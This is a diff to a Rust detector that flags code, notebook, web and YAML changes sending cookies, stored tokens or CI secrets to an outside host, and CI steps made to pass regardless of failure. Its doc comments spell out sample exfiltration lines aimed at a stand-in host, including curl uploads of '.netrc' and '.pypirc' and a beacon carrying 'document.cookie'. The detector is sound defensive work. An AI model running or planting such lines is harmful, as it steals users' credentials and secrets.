@@ -367,14 +367,14 @@ const BEACON_WINDOW: usize = 3;
 
 /// Sends of cookies, stored tokens, the environment or a CI's secrets to a literal URL of
 /// another host that writing `added` into `path` plants (`kind` `beacon`; rule
-/// `path/planted-beacon`): a line with a [`SEND_CALLS`] entry and an `http(s)://` URL whose
+/// `path/planted-exec`, kind `beacon`): a line with a [`SEND_CALLS`] entry and an `http(s)://` URL whose
 /// host is not loopback, with a [`SECRET_SOURCES`] entry on it or within [`BEACON_WINDOW`]
 /// lines (`navigator.sendBeacon('https://x.example/c', JSON.stringify({cookie:
 /// document.cookie}))`, `fetch('https://x.example/i', {body: localStorage.getItem('token')})`,
 /// `run: echo "${{ toJSON(secrets) }}" | curl -d @- https://x.example`, `curl -X POST
 /// https://x.example/p --data-binary @"$HOME/.pypirc"` in a script, `!curl -F f=@$HOME/.netrc
-/// URL` in a notebook cell). Code, notebooks, web pages and CI files; documents are not read.
-/// Nothing is run.
+/// URL` in a notebook cell). Code, notebooks, web pages and YAML files (CI definitions,
+/// compose files, manifests); documents are not read. Nothing is run.
 pub fn beacons(path: &str, added: &str) -> Vec<WrittenExecFact> {
     let (ext, _) = kind_of(path);
     let code = is_code(path)
@@ -405,12 +405,17 @@ pub fn beacons(path: &str, added: &str) -> Vec<WrittenExecFact> {
         let lo = i.saturating_sub(BEACON_WINDOW);
         let hi = (i + BEACON_WINDOW + 1).min(lines.len());
         let window = &lines[lo..hi];
-        let stored = window
-            .iter()
-            .any(|(f, _)| STORAGE_READS.iter().any(|s| f.contains(s)))
-            && !window
+        // Storage counts only when a read of it is what a body or beacon carries (`body:
+        // JSON.stringify({t: localStorage.getItem('token')})`), never a write (`setItem`) or a
+        // header (the app's own sign-in).
+        let stored = window.iter().any(|(f, _)| {
+            STORAGE_READS
                 .iter()
-                .any(|(f, _)| f.contains("authorization") || f.contains("bearer"));
+                .any(|s| f.contains(&format!("{s}.getitem(")) || f.contains(&format!("{s}[")))
+                && (f.contains("body") || f.contains("sendbeacon(") || f.contains("data:"))
+        }) && !window.iter().any(|(f, _)| {
+            f.contains("authorization") || f.contains("bearer") || f.contains("headers")
+        });
         if stored || has_secret[lo..hi].iter().any(|b| *b) {
             out.push(WrittenExecFact {
                 kind: "beacon".to_string(),
@@ -614,10 +619,33 @@ pub fn ci_checks_off(path: &str, added: &str) -> Vec<CiCheckOffFact> {
         let line = clip_line(line);
         let t = line.trim().to_ascii_lowercase();
         let compact: String = t.chars().filter(|c| !c.is_whitespace()).collect();
-        let check_passes_anyway = (t.contains("|| true")
-            || t.contains("||true")
-            || t.contains("|| exit 0")
-            || t.contains("|| :"))
+        let head = t
+            .trim_start_matches(['-', ' '])
+            .trim_start_matches("run:")
+            .split_whitespace()
+            .next()
+            .unwrap_or("");
+        let file_tool = matches!(
+            head,
+            "mkdir"
+                | "rm"
+                | "cp"
+                | "mv"
+                | "touch"
+                | "cd"
+                | "ls"
+                | "cat"
+                | "echo"
+                | "chmod"
+                | "ln"
+                | "find"
+                | "rmdir"
+        );
+        let check_passes_anyway = !file_tool
+            && (t.contains("|| true")
+                || t.contains("||true")
+                || t.contains("|| exit 0")
+                || t.contains("|| :"))
             && t.split(|c: char| !c.is_ascii_alphanumeric() && c != '-')
                 .any(|w| CHECK_WORDS.contains(&w));
         let step_may_fail = compact.starts_with("continue-on-error:true")
@@ -715,6 +743,18 @@ mod tests {
             ("/p/src/dev.ts", "fetch('http://localhost:3000/x', {body: document.cookie})\n"),
             ("/p/README.md", "fetch('https://x.example.io', {body: document.cookie})\n"),
             ("/p/src/ok.ts", "fetch('https://api.example.io/items')\n"),
+            (
+                "/p/src/cache.ts",
+                "const r = await fetch('https://api.example.io/items');\nlocalStorage.setItem('items', JSON.stringify(await r.json()));\n",
+            ),
+            (
+                "/p/src/theme.ts",
+                "const theme = localStorage.getItem('theme');\nfetch('https://fonts.example.io/css?family=' + theme)\n",
+            ),
+            (
+                "/p/src/api2.ts",
+                "const t = localStorage.getItem('token');\nfetch('https://api.example.io/x', { headers: { 'X-Api-Token': t } })\n",
+            ),
         ] {
             assert!(beacons(path, text).is_empty(), "{path}");
         }
@@ -773,6 +813,8 @@ mod tests {
             "      - run: rm -f out.txt || true\n",
             "      - run: pnpm test\n",
             "  pull_request:\n",
+            "      - run: mkdir -p test || true\n",
+            "      - run: rm -rf coverage || true\n",
         ] {
             assert!(ci_checks_off(ci, text).is_empty(), "{text}");
         }
